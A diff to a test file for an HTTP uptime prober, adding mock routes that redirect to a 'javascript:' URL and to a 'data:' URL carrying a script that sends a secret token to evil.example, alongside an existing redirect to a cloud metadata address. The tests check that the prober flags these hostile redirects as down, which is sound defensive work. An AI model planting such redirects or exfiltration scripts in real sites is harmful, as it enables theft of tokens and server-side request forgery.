@@ -125,6 +125,12 @@ beforeAll(async () => {
       case '/link-local':
         res.writeHead(307, { location: `http://[fe80::a9fe:a9fe]/computeMetadata/v1/?token=${SECRET_TOKEN}` }).end();
         return;
+      case '/javascript':
+        res.writeHead(302, { location: 'javascript:window.__xss=1' }).end();
+        return;
+      case '/data-url':
+        res.writeHead(301, { location: `data:text/html,<script>fetch('//evil.example/?${SECRET_TOKEN}')</script>` }).end();
+        return;
       default:
         res.writeHead(404).end();
     }
@@ -205,6 +211,9 @@ function cases(): Case[] {
       outcome: 'down',
       message: 'redirect (307) to http://[fe80::a9fe:a9fe]/computeMetadata/v1/; expected 200',
     },
+    // A non-HTTP target is named by its scheme, not read as a garbled path ("nullwindow.__xss=1").
+    { check: httpCheck('javascript-redirect', `${o}/javascript`), outcome: 'down', message: 'redirect (302) to a non-HTTP location (javascript:); expected 200' },
+    { check: httpCheck('data-url-redirect', `${o}/data-url`), outcome: 'down', message: 'redirect (301) to a non-HTTP location (data:); expected 200' },
     { check: httpCheck('tls-self-signed', selfSignedTls.origin), outcome: 'down', message: /^TLS: (self-signed certificate is not trusted|certificate chain ends in an untrusted self-signed CA)$/ },
     { check: httpCheck('tls-expired', expiredTls.origin, { caCertificatesPem: expiredCert.cert }), outcome: 'down', message: 'TLS: certificate has expired' },
     { check: httpCheck('tls-wrong-host', wrongHostTls.origin, { caCertificatesPem: wrongHostCert.cert }), outcome: 'down', message: 'TLS: certificate does not match the host name' },
@@ -269,6 +278,8 @@ describe('one batch of hostile targets next to healthy ones', () => {
     expect(hits['/loop']).toBe(1);
     expect(hits['/metadata']).toBe(1);
     expect(hits['/link-local']).toBe(1);
+    expect(hits['/javascript']).toBe(1);
+    expect(hits['/data-url']).toBe(1);
   });
 
   test('every probe ends within its own deadline (latency measured by the probe)', () => {
